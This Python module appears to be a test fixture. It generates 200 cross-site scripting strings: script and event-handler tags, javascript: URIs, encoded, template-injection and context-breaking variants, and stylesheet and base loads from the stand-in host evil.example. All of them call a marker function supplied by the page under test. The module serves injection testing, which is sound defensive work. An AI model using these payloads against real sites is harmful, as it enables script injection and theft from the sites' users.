"""Strings that become a script or an element where text is taken for markup."""

from collections.abc import Iterator

#: what a string does when it is believed; the page under test defines it
CALL = "xss()"
TAGS = (
    "script", "img", "svg", "iframe", "object", "embed", "video", "audio", "body", "input",
    "details", "marquee", "math", "style", "link", "base", "form", "button", "template", "x-y",
)  # fmt: skip
EVENTS = (
    "onload", "onerror", "onclick", "onfocus autofocus", "ontoggle open", "onanimationstart",
    "onpointerover", "onbegin", "onstart", "onpageshow",
)  # fmt: skip
BREAKS = ("", '">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</script>", "*/")
SPECIAL = (
    f"<script>{CALL}</script>", f"<ScRiPt>{CALL}</sCrIpT>", f"<script\n>{CALL}</script>",
    f"<script/x>{CALL}</script>", f"<script>{CALL}//", f"<<script>{CALL}//<</script>",
    f"<img src=x onerror={CALL}>", f"<img/src/onerror={CALL}>", f"<img src=x onerror={CALL}//",
    f'<img src="x` `<script>{CALL}</script>"` `>', f"<svg onload={CALL}>", f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script>", f"<svg><a xlink:href=javascript:{CALL}><text>x",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<iframe src=javascript:{CALL}>", f'<iframe srcdoc="<script>parent.{CALL}</script>">',
    f"<a href=javascript:{CALL}>x</a>", f"<a href=JaVaScRiPt:{CALL}>x</a>",
    f"<a href='java&#9;script:{CALL}'>x</a>", f"<form action=javascript:{CALL}><input type=submit>",
    f"<button formaction=javascript:{CALL}>x", f"<object data=javascript:{CALL}>",
    f"<embed src=javascript:{CALL}>", f"<meta http-equiv=refresh content=0;url=javascript:{CALL}>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css'</style>", f"<style>*{{x:expression({CALL})}}</style>",
    f"javascript:{CALL}", f"jAvAsCrIpT:{CALL}", f"data:text/html,<script>{CALL}</script>",
    f"vbscript:{CALL}", f"&lt;script&gt;{CALL}&lt;/script&gt;", f"&#60;script&#62;{CALL}",
    f"%3Cscript%3E{CALL}%3C/script%3E", f"\\u003cscript\\u003e{CALL}", f"\\x3cscript\\x3e{CALL}",
    f"${{{CALL}}}", f"{{{{{CALL}}}}}", f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"#{{{CALL}}}", f"<%= {CALL} %>", f"[[{CALL}]]", f"';{CALL};//", f'";{CALL};//',
    f"`;{CALL};//", f"');{CALL};//", f"</script><script>{CALL}</script>", f"\\';{CALL};//",
    "<plaintext>", "<!--", "<![CDATA[", "<xss>", "<b>bold", "</div></main></body>", "<bdi>", "<hr>",
    "<table><tr><td>", "<title>gone", "<textarea>", "<noscript>", "<select><option>",
    "<dialog open>",
    f"<details open ontoggle={CALL}>", f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}>", f"<audio src=x onerror={CALL}>", f"<body onload={CALL}>",
    f"<isindex type=image src=1 onerror={CALL}>", f"<image src=x onerror={CALL}>",
    f"<template><script>{CALL}</script>", f"<slot onslotchange={CALL}>", "__proto__", "constructor",
    f"\ufeff<script>{CALL}</script>", f"＜script＞{CALL}",
    "<script>eval(atob('eHNzKCk='))</script>",
)  # fmt: skip


def strings() -> list[str]:
    """200 of them, no two the same."""
    made = list(dict.fromkeys([*SPECIAL, *_built()]))
    return made[:200]


def _built() -> Iterator[str]:
    """Every way out of an attribute or element × elements × events, the mixed ones first."""
    for at in range(len(TAGS) * len(EVENTS)):
        tag, event = TAGS[at % len(TAGS)], EVENTS[(at + at // len(TAGS)) % len(EVENTS)]
        name, _, more = event.partition(" ")
        yield f"{BREAKS[at % len(BREAKS)]}<{tag} {more + ' ' if more else ''}{name}={CALL}>"


def packed(most: int, between: str = " ") -> list[str]:
    """All strings that fit, as few texts of at most this many characters as hold them."""
    texts: list[str] = []
    for string in strings():
        line = " ".join(string.split())  # a field of one line takes no line breaks
        if len(line) > most:
            continue
        if texts and len(texts[-1]) + len(between) + len(line) <= most:
            texts[-1] += between + line
        else:
            texts.append(line)
    return texts
